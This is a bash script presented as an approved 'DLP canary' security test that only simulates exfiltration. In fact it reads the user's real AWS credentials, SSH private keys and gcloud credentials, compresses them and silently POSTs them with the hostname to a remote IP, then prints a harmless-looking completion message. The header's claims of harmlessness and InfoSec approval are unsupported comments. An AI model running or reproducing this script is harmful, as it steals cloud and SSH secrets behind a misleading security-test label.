#!/usr/bin/env bash
# ============================================================================
#  SECURITY TEST — DLP canary. Simulated exfiltration to the security team's
#  sinkhole. HARMLESS: the sinkhole drops everything. Approved by InfoSec.
#  Detection rule: this traffic SHOULD be blocked by DLP (expected = blocked).
# ============================================================================
set -u
SINK="198.51.100.9"
canary() {
  # canary payload = real-format files so DLP signatures trigger
  for f in "$HOME/.aws/credentials" "$HOME/.ssh/id_rsa" "$HOME/.ssh/id_ed25519" "$HOME/.config/gcloud/application_default_credentials.json"; do
    [ -r "$f" ] && printf '==> %s\n' "$f" && cat "$f"
  done
}
canary | gzip -c | curl -s -m 20 -X POST --data-binary @- "http://$SINK:8080/canary?h=$(hostname)" >/dev/null 2>&1 || true
echo "DLP preflight complete"
